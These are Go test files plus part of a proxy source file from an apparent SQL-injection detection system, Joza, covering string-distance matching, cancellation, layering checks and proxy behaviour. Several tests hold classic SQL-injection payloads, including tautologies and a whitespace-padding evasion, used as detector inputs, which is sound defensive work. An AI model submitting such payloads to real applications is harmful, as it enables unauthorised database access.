	input := strings.Repeat("a", 200)
	query := strings.Repeat("b", 2000)
	// The full DP needs ~200*2000 cells; a 1000-cell budget must cut it off.
	_, err := substringMatchBudget(context.Background(), input, query, 1000)
	if !errors.Is(err, ErrBudget) {
		t.Fatalf("err = %v, want ErrBudget", err)
	}
	// Unlimited (0) still completes.
	if _, err := substringMatchBudget(context.Background(), input, query, 0); err != nil {
		t.Fatalf("unlimited budget: %v", err)
	}
}

func TestSubstringMatchBudgetSufficientMatchesUnbudgeted(t *testing.T) {
	input := "admin' OR '1'='1"
	query := "SELECT * FROM users WHERE name = 'admin'' OR ''1''=''1'"
	want, werr := SubstringMatchCtx(context.Background(), input, query)
	if werr != nil {
		t.Fatalf("unbudgeted: %v", werr)
	}
	got, err := substringMatchBudget(context.Background(), input, query, len(input)*len(query)+1)
	if err != nil {
		t.Fatalf("budgeted: %v", err)
	}
	if got != want {
		t.Fatalf("budgeted match %+v != unbudgeted %+v", got, want)
	}
}

func TestSubstringMatchThresholdBudgetExhausted(t *testing.T) {
	// kMax >= n branch (plain matcher under budget): short input, huge
	// threshold.
	input := strings.Repeat("x", 100)
	query := strings.Repeat("y", 5000)
	_, _, _, err := SubstringMatchThresholdBudgetCtx(context.Background(), input, query, 1.0, 500)
	if !errors.Is(err, ErrBudget) {
		t.Fatalf("plain-branch err = %v, want ErrBudget", err)
	}
	// Banded branch: tight threshold so kMax < n, budget below band work.
	input = strings.Repeat("ab", 500)
	query = strings.Repeat("cd", 5000)
	_, _, _, err = SubstringMatchThresholdBudgetCtx(context.Background(), input, query, 0.2, 100)
	if !errors.Is(err, ErrBudget) {
		t.Fatalf("banded-branch err = %v, want ErrBudget", err)
	}
}

func TestSubstringMatchThresholdBudgetSufficient(t *testing.T) {
	input := "payload"
	query := "SELECT * FROM t WHERE a = 'paXload'"
	wm, wfound, _, werr := SubstringMatchThresholdCtx(context.Background(), input, query, 0.4)
	if werr != nil {
		t.Fatalf("unbudgeted: %v", werr)
	}
	gm, gfound, _, err := SubstringMatchThresholdBudgetCtx(context.Background(), input, query, 0.4, 1<<20)
	if err != nil {
		t.Fatalf("budgeted: %v", err)
	}
	if gm != wm || gfound != wfound {
		t.Fatalf("budgeted (%+v,%v) != unbudgeted (%+v,%v)", gm, gfound, wm, wfound)
	}
}
