package strdist

import (
	"math/rand"
	"strings"
	"testing"
	"testing/quick"
)

func TestLevenshteinBasics(t *testing.T) {
	tests := []struct {
		a, b string
		want int
	}{
		{"", "", 0},
		{"abc", "abc", 0},
		{"abc", "", 3},
		{"", "abc", 3},
		{"kitten", "sitting", 3},
		{"flaw", "lawn", 2},
		{"OR 1=1", "OR 1=1", 0},
		{"a", "b", 1},
		{"ab", "ba", 2},
		{"intention", "execution", 5},
	}
	for _, tt := range tests {
		if got := Levenshtein(tt.a, tt.b); got != tt.want {
			t.Errorf("Levenshtein(%q, %q) = %d, want %d", tt.a, tt.b, got, tt.want)
		}
	}
}

func TestLevenshteinProperties(t *testing.T) {
	symmetric := func(a, b string) bool {
		return Levenshtein(a, b) == Levenshtein(b, a)
	}
	if err := quick.Check(symmetric, &quick.Config{MaxCount: 500}); err != nil {
		t.Error("symmetry:", err)
	}
	identity := func(a string) bool { return Levenshtein(a, a) == 0 }
	if err := quick.Check(identity, &quick.Config{MaxCount: 200}); err != nil {
		t.Error("identity:", err)
	}
	bounded := func(a, b string) bool {
		d := Levenshtein(a, b)
		maxLen := len(a)
		if len(b) > maxLen {
			maxLen = len(b)
		}
		diff := len(a) - len(b)
		if diff < 0 {
			diff = -diff
		}
		return d >= diff && d <= maxLen
	}
	if err := quick.Check(bounded, &quick.Config{MaxCount: 500}); err != nil {
		t.Error("bounds:", err)
	}
	triangle := func(a, b, c string) bool {
		return Levenshtein(a, c) <= Levenshtein(a, b)+Levenshtein(b, c)
	}
	cfg := &quick.Config{MaxCount: 200, Rand: rand.New(rand.NewSource(7))}
	if err := quick.Check(triangle, cfg); err != nil {
		t.Error("triangle inequality:", err)
	}
}

func TestSubstringMatchExact(t *testing.T) {
	q := "SELECT * FROM data WHERE ID=-1 OR 1=1"
	in := "-1 OR 1=1"
	m := SubstringMatch(in, q)
	if m.Distance != 0 {
		t.Fatalf("distance = %d, want 0 (match %q)", m.Distance, q[m.Start:m.End])
	}
	if q[m.Start:m.End] != in {
		t.Errorf("matched %q, want %q", q[m.Start:m.End], in)
	}
	if m.Ratio() != 0 {
		t.Errorf("ratio = %v, want 0", m.Ratio())
	}
}

func TestSubstringMatchApproximate(t *testing.T) {
	// Input with quotes; the query has them escaped with backslashes
	// (magic quotes), so the distance equals the number of added slashes.
	in := `x' OR '1'='1`
	q := `SELECT * FROM t WHERE name='x\' OR \'1\'=\'1'`
	m := SubstringMatch(in, q)
	if m.Distance != 4 {
		t.Errorf("distance = %d (match %q), want 4", m.Distance, q[m.Start:m.End])
	}
}

func TestSubstringMatchAgreesWithNaive(t *testing.T) {
	rng := rand.New(rand.NewSource(42))
	alphabet := "abcO R='1"
	randStr := func(n int) string {
		var sb strings.Builder
		for i := 0; i < n; i++ {
			sb.WriteByte(alphabet[rng.Intn(len(alphabet))])
		}
		return sb.String()
	}
	for iter := 0; iter < 200; iter++ {
		in := randStr(1 + rng.Intn(8))
		q := randStr(1 + rng.Intn(20))
		got := SubstringMatch(in, q)
		want := NaiveSubstringMatch(in, q)
		if got != want {
			t.Fatalf("iter %d: SubstringMatch(%q, %q) = %+v, naive = %+v",
				iter, in, q, got, want)
		}
		// Verify the reported span really has the reported distance.
		if d := Levenshtein(in, q[got.Start:got.End]); d != got.Distance {
			t.Fatalf("iter %d: span %q has distance %d, reported %d",
				iter, q[got.Start:got.End], d, got.Distance)
		}
	}
}

// TestNaiveMatchesSellersTieBreak pins pairs where equal-distance spans
// exist and the two matchers historically diverged: the naive matcher
// tie-broke over every (start, end) pair while Sellers propagates one
// diagonal-preferred start per end column. Since the fix the naive matcher
// recovers Sellers' exact start, so all engines are bit-identical oracles
// of each other.
func TestNaiveMatchesSellersTieBreak(t *testing.T) {
	cases := []struct{ input, query string }{
		// Sellers reports (0,2,1): the span "aa" with one substitution,
		// start propagated diagonally. The old naive picked (0,3,1) —
		// same distance, longer span — and the two disagreed.
		{"aa", "aba"},
		{"ab", "ba"},
		{"abc", "acbc"},
		{"aba", "ab"},
		{"OR 1=1", "x OR 11 y"},
	}
	for _, tc := range cases {
		sellers := SubstringMatch(tc.input, tc.query)
		naive := NaiveSubstringMatch(tc.input, tc.query)
		if naive != sellers {
			t.Errorf("(%q, %q): naive = %+v, Sellers = %+v; engines must be bit-identical",
				tc.input, tc.query, naive, sellers)
		}
		if d := Levenshtein(tc.input, tc.query[naive.Start:naive.End]); d != naive.Distance {
			t.Errorf("(%q, %q): reported span %q carries distance %d, reported %d",
				tc.input, tc.query, tc.query[naive.Start:naive.End], d, naive.Distance)
		}
	}
}

// TestNaiveExhaustiveEquivalence sweeps every small binary-alphabet pair,
// where equal-distance ties are densest, and requires bit-identical
// matches from the naive and Sellers engines.
func TestNaiveExhaustiveEquivalence(t *testing.T) {
	strs := func(maxLen int) []string {
		out := []string{""}
		frontier := []string{""}
		for l := 0; l < maxLen; l++ {
			var next []string
			for _, s := range frontier {
				for _, c := range []string{"a", "b"} {
					next = append(next, s+c)
				}
			}
			out = append(out, next...)
			frontier = next
		}
		return out
	}
	for _, in := range strs(4) {
		for _, q := range strs(5) {
			sellers := SubstringMatch(in, q)
			naive := NaiveSubstringMatch(in, q)
			if naive != sellers {
				t.Fatalf("(%q, %q): naive = %+v, Sellers = %+v", in, q, naive, sellers)
			}
		}
	}
}

func TestSubstringMatchEmptyCases(t *testing.T) {
	if m := SubstringMatch("", "query"); m.Distance != 0 || m.Start != 0 || m.End != 0 {
		t.Errorf("empty input: %+v", m)
	}
	if m := SubstringMatch("abc", ""); m.Distance != 3 {
		t.Errorf("empty query: %+v", m)
	}
	if m := NaiveSubstringMatch("", "q"); m.Distance != 0 {
		t.Errorf("naive empty input: %+v", m)
	}
	if m := NaiveSubstringMatch("ab", ""); m.Distance != 2 {
		t.Errorf("naive empty query: %+v", m)
	}
}

func TestMatchRatio(t *testing.T) {
	m := Match{Start: 0, End: 22, Distance: 5}
	got := m.Ratio()
	if got < 0.227 || got > 0.228 {
		// The paper's Figure 2C example: distance 5 over a 22-byte match
		// yields a 22.7% difference ratio.
		t.Errorf("ratio = %v, want ~0.227", got)
	}
	if (Match{}).Ratio() < 1e8 {
		t.Error("empty match must have a huge ratio")
	}
}

func TestSubstringMatchPrefersLongerOnTies(t *testing.T) {
	// Both "ab" at 0 and "ab" at 3 match with distance 0; earliest end wins
	// among equal lengths.
	m := SubstringMatch("ab", "ab cab")
	if m.Distance != 0 || m.Start != 0 || m.End != 2 {
		t.Errorf("match = %+v, want {0 2 0}", m)
	}
}

func TestBoundedLevenshtein(t *testing.T) {
	tests := []struct {
		a, b  string
		bound int
		want  int
	}{
		{"kitten", "sitting", 10, 3},
		{"kitten", "sitting", 3, 3},
		{"kitten", "sitting", 2, 3}, // exceeds: bound+1
		{"abc", "abc", 0, 0},
		{"abc", "xyz", 1, 2},       // cut off at bound+1
		{"aaaa", "bbbbbbbb", 2, 3}, // length gap alone exceeds bound
		{"", "abc", 5, 3},
		{"abc", "", 5, 3},
	}
	for _, tt := range tests {
		if got := BoundedLevenshtein(tt.a, tt.b, tt.bound); got != tt.want {
			t.Errorf("BoundedLevenshtein(%q, %q, %d) = %d, want %d",
				tt.a, tt.b, tt.bound, got, tt.want)
		}
	}
}

func TestBoundedLevenshteinAgreesWithFull(t *testing.T) {
	f := func(a, b string, bound uint8) bool {
		bd := int(bound % 16)
		full := Levenshtein(a, b)
		got := BoundedLevenshtein(a, b, bd)
		if full <= bd {
			return got == full
		}
		return got == bd+1
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}

func TestSubstringMatchWhitespacePaddingAttack(t *testing.T) {
	// NTI evasion via whitespace trimming: the attacker pads the input with
	// spaces which the application strips. The query then contains the
	// unpadded payload; the distance equals the number of stripped spaces.
	payload := "-1 OR 1=1"
	padded := payload + strings.Repeat(" ", 30)
	q := "SELECT * FROM t WHERE id=" + payload
	m := SubstringMatch(padded, q)
	if m.Distance == 0 {
		t.Fatal("padded input should not match exactly")
	}
	if m.Ratio() <= 0.20 {
		t.Errorf("ratio %v should exceed the default threshold 0.20", m.Ratio())
	}
}
