package strdist

import (
	"context"
	"errors"
	"strings"
	"testing"
)

// Long enough that the DP loop reaches its polling checkpoint (every
// ctxCheckMask+1 = 256 query columns).
var longQuery = "SELECT * FROM t WHERE x = '" + strings.Repeat("abcdefgh", 200) + "'"

func TestSubstringMatchCtxCanceled(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, err := SubstringMatchCtx(ctx, "abcdefgh12345", longQuery)
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
}

func TestSubstringMatchThresholdCtxCanceled(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, _, _, err := SubstringMatchThresholdCtx(ctx, "abcdefgh12345", longQuery, 0.2)
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
}

func TestSubstringMatchCtxBackgroundMatchesPlain(t *testing.T) {
	// The cancelable path must compute the same match as the plain one.
	input := "abcdefgh123"
	want := SubstringMatch(input, longQuery)
	got, err := SubstringMatchCtx(context.Background(), input, longQuery)
	if err != nil {
		t.Fatal(err)
	}
	if got != want {
		t.Errorf("ctx match = %+v, plain = %+v", got, want)
	}
}
