// Package arch holds architecture tests: structural assertions that plain
// `go test` enforces, keeping the layering of the codebase from eroding.
package arch

import (
	"go/parser"
	"go/token"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
)

const modulePath = "joza"

// analyzerPackages is the analysis layer: pure decision logic that must
// stay free of transport and serving concerns so it can be embedded
// anywhere (in-process guard, daemon, proxy, tests) without dragging in
// sockets, wire protocols or HTTP.
var analyzerPackages = []string{
	"joza/internal/nti",
	"joza/internal/pti",
	"joza/internal/strdist",
	"joza/internal/sqltoken",
	"joza/internal/fragments",
	"joza/internal/profile",
}

// forbiddenPackages is the transport/serving layer.
var forbiddenPackages = map[string]bool{
	"joza/internal/daemon": true,
	"joza/internal/proxy":  true,
	"joza/internal/obs":    true,
}

// TestAnalyzerLayerDoesNotImportTransport walks the full transitive
// import graph of each analyzer package and asserts no path reaches the
// transport or serving layers.
func TestAnalyzerLayerDoesNotImportTransport(t *testing.T) {
	root := moduleRoot(t)
	// via[pkg] remembers one importer on the discovered path, for a
	// readable failure message.
	via := map[string]string{}
	queue := append([]string(nil), analyzerPackages...)
	seen := map[string]bool{}
	for len(queue) > 0 {
		pkg := queue[0]
		queue = queue[1:]
		if seen[pkg] {
			continue
		}
		seen[pkg] = true
		for _, imp := range packageImports(t, root, pkg) {
			if !strings.HasPrefix(imp, modulePath) {
				continue // stdlib
			}
			if _, ok := via[imp]; !ok {
				via[imp] = pkg
			}
			if forbiddenPackages[imp] {
				t.Errorf("analyzer layer reaches %s (imported by %s via %s)",
					imp, via[imp], chain(via, imp))
				continue
			}
			queue = append(queue, imp)
		}
	}
	for _, pkg := range analyzerPackages {
		if !seen[pkg] {
			t.Errorf("analyzer package %s was not scanned", pkg)
		}
	}
}

// chain renders the import path that led to pkg.
func chain(via map[string]string, pkg string) string {
	parts := []string{pkg}
	for {
		from, ok := via[pkg]
		if !ok || from == pkg {
			break
		}
		parts = append([]string{from}, parts...)
		pkg = from
	}
	return strings.Join(parts, " -> ")
}

// moduleRoot locates the repository root (the directory holding go.mod).
func moduleRoot(t *testing.T) string {
	t.Helper()
	dir, err := os.Getwd()
	if err != nil {
		t.Fatal(err)
	}
	for {
		if _, err := os.Stat(filepath.Join(dir, "go.mod")); err == nil {
			return dir
		}
		parent := filepath.Dir(dir)
		if parent == dir {
			t.Fatal("go.mod not found above test directory")
		}
		dir = parent
	}
}

// packageImports parses the non-test Go files of one package directory
// (imports only) and returns their import paths.
func packageImports(t *testing.T, root, pkg string) []string {
	t.Helper()
	rel := strings.TrimPrefix(pkg, modulePath)
	rel = strings.TrimPrefix(rel, "/")
	dir := filepath.Join(root, filepath.FromSlash(rel))
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatalf("read %s: %v", dir, err)
	}
	fset := token.NewFileSet()
	var out []string
	for _, e := range entries {
		name := e.Name()
		if e.IsDir() || !strings.HasSuffix(name, ".go") || strings.HasSuffix(name, "_test.go") {
			continue
		}
		f, err := parser.ParseFile(fset, filepath.Join(dir, name), nil, parser.ImportsOnly)
		if err != nil {
			t.Fatalf("parse %s: %v", name, err)
		}
		for _, imp := range f.Imports {
			path, err := strconv.Unquote(imp.Path.Value)
			if err != nil {
				t.Fatalf("unquote %s: %v", imp.Path.Value, err)
			}
			out = append(out, path)
		}
	}
	return out
}
