package proxy

import (
	"context"
	"encoding/json"
	"errors"
	"net"
	"runtime"
	"testing"
	"time"

	"joza/internal/minidb"
)

// blockingBackend parks Execute until its context ends and reports the
// context error it observed.
type blockingBackend struct {
	started chan struct{}
	ctxErr  chan error
}

func newBlockingBackend() *blockingBackend {
	return &blockingBackend{
		started: make(chan struct{}),
		ctxErr:  make(chan error, 1),
	}
}

func (b *blockingBackend) Execute(ctx context.Context, req *minidb.Request) *minidb.Response {
	close(b.started)
	<-ctx.Done()
	b.ctxErr <- ctx.Err()
	return &minidb.Response{Error: "aborted"}
}

func TestProxyClientDisconnectCancelsInFlight(t *testing.T) {
	backend := newBlockingBackend()
	p := New(newGuard(t), backend)
	addr := startProxy(t, p)

	before := runtime.NumGoroutine()

	conn, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	if err := json.NewEncoder(conn).Encode(minidb.Request{Query: "SELECT id, title FROM posts WHERE id=1 LIMIT 5"}); err != nil {
		t.Fatal(err)
	}
	select {
	case <-backend.started:
	case <-time.After(5 * time.Second):
		t.Fatal("backend never saw the request")
	}

	// The client walks away mid-query: the per-connection context must be
	// canceled, freeing the backend promptly.
	_ = conn.Close()
	select {
	case err := <-backend.ctxErr:
		if !errors.Is(err, context.Canceled) {
			t.Fatalf("backend ctx err = %v, want context.Canceled", err)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("client disconnect did not cancel the in-flight request")
	}

	// No goroutines may linger once the connection's work is done.
	deadline := time.Now().Add(5 * time.Second)
	for {
		if runtime.NumGoroutine() <= before {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("goroutines leaked: before=%d now=%d", before, runtime.NumGoroutine())
		}
		time.Sleep(10 * time.Millisecond)
	}
}

func TestProxyCheckAbortedNotCounted(t *testing.T) {
	// A canceled check is neither blocked nor passed.
	p := New(newGuard(t), LocalBackend{DB: newDB(t)})
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	resp := p.process(ctx, &minidb.Request{Query: "SELECT id, title FROM posts WHERE id=1 LIMIT 5"})
	if resp.Error == "" || resp.Blocked {
		t.Fatalf("resp = %+v, want check-aborted error", resp)
	}
	if blocked, passed := p.Stats(); blocked != 0 || passed != 0 {
		t.Errorf("stats = %d, %d, want 0, 0", blocked, passed)
	}
}

func TestRemoteBackendPoolParallelism(t *testing.T) {
	// The pooled backend must dial one connection per concurrent request
	// (up to the pool size) instead of serializing on a single connection.
	db := newDB(t)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	upstream := minidb.NewServer(db)
	done := make(chan struct{})
	go func() {
		defer close(done)
		_ = upstream.Serve(ln)
	}()
	t.Cleanup(func() {
		_ = upstream.Close()
		<-done
	})

	backend := NewRemoteBackend(ln.Addr().String(), WithPoolSize(3))
	t.Cleanup(func() { _ = backend.Close() })

	const requests = 12
	errc := make(chan string, requests)
	for i := 0; i < requests; i++ {
		go func() {
			resp := backend.Execute(context.Background(), &minidb.Request{Query: "SELECT id, title FROM posts WHERE id=1 LIMIT 5"})
			errc <- resp.Error
		}()
	}
	for i := 0; i < requests; i++ {
		if e := <-errc; e != "" {
			t.Fatalf("request failed: %s", e)
		}
	}
	if d := backend.Dials(); d == 0 || d > 3 {
		t.Errorf("dials = %d, want 1..3", d)
	}
}

func TestRemoteBackendReconnectsAfterUpstreamRestart(t *testing.T) {
	db := newDB(t)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := ln.Addr().String()
	upstream := minidb.NewServer(db)
	done := make(chan struct{})
	go func() {
		defer close(done)
		_ = upstream.Serve(ln)
	}()

	backend := NewRemoteBackend(addr, WithPoolSize(1))
	t.Cleanup(func() { _ = backend.Close() })

	if resp := backend.Execute(context.Background(), &minidb.Request{Query: "SELECT id, title FROM posts WHERE id=1 LIMIT 5"}); resp.Error != "" {
		t.Fatalf("first request: %s", resp.Error)
	}

	// Restart the upstream on the same address: the pooled connection is
	// now stale and the next request must redial transparently.
	_ = upstream.Close()
	<-done
	ln2, err := net.Listen("tcp", addr)
	if err != nil {
		t.Skipf("cannot rebind %s: %v", addr, err)
	}
	upstream2 := minidb.NewServer(db)
	done2 := make(chan struct{})
	go func() {
		defer close(done2)
		_ = upstream2.Serve(ln2)
	}()
	t.Cleanup(func() {
		_ = upstream2.Close()
		<-done2
	})

	if resp := backend.Execute(context.Background(), &minidb.Request{Query: "SELECT id, title FROM posts WHERE id=1 LIMIT 5"}); resp.Error != "" {
		t.Fatalf("request after restart: %s", resp.Error)
	}
	if d := backend.Dials(); d != 2 {
		t.Errorf("dials = %d, want 2 (one per upstream incarnation)", d)
	}
}

func TestRemoteBackendCanceledCtx(t *testing.T) {
	backend := newBlockedUpstreamBackend(t)
	ctx, cancel := context.WithCancel(context.Background())
	errc := make(chan string, 1)
	go func() {
		errc <- backend.Execute(ctx, &minidb.Request{Query: "SELECT 1"}).Error
	}()
	time.Sleep(20 * time.Millisecond)
	cancel()
	select {
	case e := <-errc:
		if e == "" {
			t.Fatal("canceled upstream round trip must fail")
		}
	case <-time.After(5 * time.Second):
		t.Fatal("cancellation did not unblock the upstream round trip")
	}
}

// newBlockedUpstreamBackend returns a RemoteBackend whose upstream accepts
// connections and reads forever without replying.
func newBlockedUpstreamBackend(t *testing.T) *RemoteBackend {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	stop := make(chan struct{})
	go func() {
		for {
			conn, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				defer conn.Close()
				buf := make([]byte, 4096)
				for {
					select {
					case <-stop:
						return
					default:
					}
					if _, err := conn.Read(buf); err != nil {
						return
					}
				}
			}()
		}
	}()
	backend := NewRemoteBackend(ln.Addr().String(), WithPoolSize(1))
	t.Cleanup(func() {
		close(stop)
		_ = ln.Close()
		_ = backend.Close()
	})
	return backend
}
