package proxy

import (
	"errors"
	"testing"

	"joza"
	"joza/internal/minidb"
)

// TestProxyThreadsSiteToProfiles drives the call-site identity across the
// wire: the application stamps its site on each minidb request (QueryAt),
// the proxy hands it to the guard, and the profile stage blocks an unseen
// skeleton that carries no tainted input for NTI to match.
func TestProxyThreadsSiteToProfiles(t *testing.T) {
	benign := "SELECT id, title FROM posts WHERE id=1 LIMIT 5"
	rec := joza.NewProfileRecorder()
	rec.Record("app:list", benign)

	g := newGuard(t, joza.WithProfileStore(rec.Store()))
	p := New(g, LocalBackend{DB: newDB(t)})
	addr := startProxy(t, p)
	c, err := minidb.Dial(addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()

	// Profiled benign traffic passes, with parameter drift.
	if _, err := c.QueryAt("app:list", "SELECT id, title FROM posts WHERE id=2 LIMIT 5", nil); err != nil {
		t.Fatalf("benign profiled query: %v", err)
	}

	// A skeleton change from the profiled site is blocked even with no
	// inputs attached (nothing for NTI) and a fragment-covered query
	// shape is not required — the profile verdict stands alone.
	attack := "SELECT id, title FROM posts WHERE id=1 OR 1=1 LIMIT 5"
	_, err = c.QueryAt("app:list", attack, nil)
	if !errors.Is(err, minidb.ErrBlocked) {
		t.Fatalf("unseen skeleton not blocked: %v", err)
	}

	// The same query without a site skips the profile stage; with benign
	// inputs and PTI trusting the vocabulary this guard was built with,
	// the attack string is still caught by PTI here — so assert only the
	// site-keyed difference: an unknown site is lenient.
	if _, err := c.QueryAt("app:other", "SELECT id, title FROM posts WHERE id=1 LIMIT 5", nil); err != nil {
		t.Fatalf("unknown site must be lenient by default: %v", err)
	}

	if blocked, _ := p.Stats(); blocked != 1 {
		t.Errorf("blocked = %d, want 1", blocked)
	}
}
