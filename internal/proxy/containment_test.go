package proxy

import (
	"context"
	"net"
	"runtime"
	"strings"
	"testing"
	"time"

	"joza/internal/minidb"
)

func waitForGoroutines(t *testing.T, before int) {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for {
		if runtime.NumGoroutine() <= before {
			return
		}
		if time.Now().After(deadline) {
			buf := make([]byte, 1<<20)
			n := runtime.Stack(buf, true)
			t.Fatalf("goroutines leaked: %d -> %d\n%s", before, runtime.NumGoroutine(), buf[:n])
		}
		time.Sleep(10 * time.Millisecond)
	}
}

func TestProxyAdmissionSheds(t *testing.T) {
	p := New(newGuard(t), LocalBackend{DB: newDB(t)}, WithAdmission(1, 20*time.Millisecond))
	// Occupy the only slot so the next request must shed after maxWait.
	if err := p.gate.Acquire(context.Background()); err != nil {
		t.Fatal(err)
	}
	addr := startProxy(t, p)
	c, err := minidb.Dial(addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	_, err = c.Query("SELECT id, title FROM posts WHERE id=1 LIMIT 5")
	if err == nil || !strings.Contains(err.Error(), "overloaded") {
		t.Fatalf("err = %v, want overloaded", err)
	}
	if p.Shed() != 1 {
		t.Fatalf("Shed = %d, want 1", p.Shed())
	}
	// Releasing the slot restores service on the same connection.
	p.gate.Release()
	res, err := c.Query("SELECT id, title FROM posts WHERE id=1 LIMIT 5")
	if err != nil || len(res.Rows) != 1 {
		t.Fatalf("after release: res=%+v err=%v", res, err)
	}
}

func TestProxyShutdownDrains(t *testing.T) {
	before := runtime.NumGoroutine()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	p := New(newGuard(t), LocalBackend{DB: newDB(t)})
	serveDone := make(chan error, 1)
	go func() { serveDone <- p.Serve(ln) }()
	c, err := minidb.Dial(ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	if _, err := c.Query("SELECT id, title FROM posts WHERE id=1 LIMIT 5"); err != nil {
		t.Fatal(err)
	}
	// The connection idles in the proxy's decoder; Shutdown must not wait
	// for the client to hang up.
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	if err := p.Shutdown(ctx); err != nil {
		t.Fatalf("Shutdown: %v", err)
	}
	<-serveDone
	if _, err := c.Query("SELECT id, title FROM posts WHERE id=1 LIMIT 5"); err == nil {
		t.Fatal("drained proxy still answered")
	}
	// Shutdown and Close after Shutdown are no-ops.
	if err := p.Shutdown(context.Background()); err != nil {
		t.Fatal(err)
	}
	if err := p.Close(); err != nil {
		t.Fatal(err)
	}
	_ = c.Close()
	waitForGoroutines(t, before)
}

func TestProxyShutdownFinishesInFlight(t *testing.T) {
	// A request already past admission when Shutdown begins gets its
	// answer. slowBackend blocks until released, standing in for a slow
	// upstream.
	release := make(chan struct{})
	slow := backendFunc(func(ctx context.Context, req *minidb.Request) *minidb.Response {
		<-release
		return &minidb.Response{Affected: 7}
	})
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	p := New(newGuard(t), slow)
	serveDone := make(chan error, 1)
	go func() { serveDone <- p.Serve(ln) }()
	c, err := minidb.Dial(ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	type result struct {
		res *minidb.Result
		err error
	}
	replied := make(chan result, 1)
	go func() {
		res, err := c.Query("SELECT id, title FROM posts WHERE id=1 LIMIT 5")
		replied <- result{res, err}
	}()
	time.Sleep(50 * time.Millisecond) // let the request reach the backend
	shutdownDone := make(chan error, 1)
	go func() {
		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
		defer cancel()
		shutdownDone <- p.Shutdown(ctx)
	}()
	time.Sleep(50 * time.Millisecond) // let Shutdown start draining
	close(release)
	if err := <-shutdownDone; err != nil {
		t.Fatalf("Shutdown: %v", err)
	}
	r := <-replied
	if r.err != nil || r.res.Affected != 7 {
		t.Fatalf("in-flight request: res=%+v err=%v — drain must let it finish", r.res, r.err)
	}
	<-serveDone
}

// backendFunc adapts a function to the Backend interface.
type backendFunc func(ctx context.Context, req *minidb.Request) *minidb.Response

func (f backendFunc) Execute(ctx context.Context, req *minidb.Request) *minidb.Response {
	return f(ctx, req)
}
