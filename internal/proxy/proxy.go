// Package proxy deploys Joza as a database proxy: it speaks the minidb
// wire protocol on the front, checks every query with the hybrid guard,
// and forwards safe queries to the backing database. This is the natural
// Go deployment of the paper's architecture — instead of wrapping PHP's
// mysql_* functions, the interception point is the database connection
// itself. Requests carry the originating HTTP request's raw inputs so the
// NTI component can correlate them with the query.
package proxy

import (
	"bufio"
	"encoding/json"
	"fmt"
	"net"
	"sync"

	"joza"
	"joza/internal/minidb"
)

// Backend executes requests that passed the guard.
type Backend interface {
	Execute(req *minidb.Request) *minidb.Response
}

// LocalBackend executes against an in-process database.
type LocalBackend struct {
	DB *minidb.DB
}

var _ Backend = LocalBackend{}

// Execute implements Backend.
func (b LocalBackend) Execute(req *minidb.Request) *minidb.Response {
	return minidb.ExecuteRequest(b.DB, req)
}

// RemoteBackend forwards to an upstream minidb server over TCP, using one
// shared client connection.
type RemoteBackend struct {
	mu     sync.Mutex
	addr   string
	client *minidb.Client
}

var _ Backend = (*RemoteBackend)(nil)

// NewRemoteBackend returns a backend that lazily connects to addr.
func NewRemoteBackend(addr string) *RemoteBackend {
	return &RemoteBackend{addr: addr}
}

// Execute implements Backend.
func (b *RemoteBackend) Execute(req *minidb.Request) *minidb.Response {
	b.mu.Lock()
	defer b.mu.Unlock()
	if b.client == nil {
		c, err := minidb.Dial(b.addr)
		if err != nil {
			return &minidb.Response{Error: fmt.Sprintf("upstream unavailable: %v", err)}
		}
		b.client = c
	}
	res, err := b.client.QueryWithInputs(req.Query, nil)
	if err != nil {
		// Drop the connection on transport errors so the next request
		// redials; database errors pass through.
		if ee, ok := err.(*minidb.ExecError); ok {
			return &minidb.Response{Error: ee.Msg}
		}
		_ = b.client.Close()
		b.client = nil
		return &minidb.Response{Error: fmt.Sprintf("upstream: %v", err)}
	}
	return &minidb.Response{
		Columns:  res.Columns,
		Rows:     res.Rows,
		Affected: res.Affected,
		DelayMs:  res.Delay.Seconds() * 1000,
	}
}

// Close closes the upstream connection if open.
func (b *RemoteBackend) Close() error {
	b.mu.Lock()
	defer b.mu.Unlock()
	if b.client != nil {
		err := b.client.Close()
		b.client = nil
		return err
	}
	return nil
}

// Proxy is a Joza-guarded minidb wire server.
type Proxy struct {
	guard   *joza.Guard
	backend Backend

	mu     sync.Mutex
	ln     net.Listener
	conns  map[net.Conn]struct{}
	wg     sync.WaitGroup
	closed bool

	blockedCount uint64
	passedCount  uint64
}

// New returns a proxy that checks queries with guard before handing them
// to backend.
func New(guard *joza.Guard, backend Backend) *Proxy {
	return &Proxy{guard: guard, backend: backend, conns: make(map[net.Conn]struct{})}
}

// Serve accepts client connections until Close.
func (p *Proxy) Serve(ln net.Listener) error {
	p.mu.Lock()
	if p.closed {
		p.mu.Unlock()
		return net.ErrClosed
	}
	p.ln = ln
	p.mu.Unlock()
	for {
		conn, err := ln.Accept()
		if err != nil {
			return err
		}
